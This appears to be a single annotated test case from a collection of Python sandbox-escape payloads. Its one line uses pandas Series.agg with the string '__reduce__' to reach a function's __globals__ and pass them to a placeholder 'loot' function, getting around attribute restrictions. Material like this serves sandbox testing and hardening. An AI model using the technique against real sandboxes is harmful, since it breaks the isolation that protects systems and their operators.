# aim: read a forbidden attribute by giving its name as text
# mechanism: Series.agg looks a text up as an attribute
# language: builtins
# reason: the library reads names that the program chose
# jail: process
# plain: loot
# imports: pandas

import pandas

loot(pandas.Series([1]).agg("__reduce__")[0].__globals__)
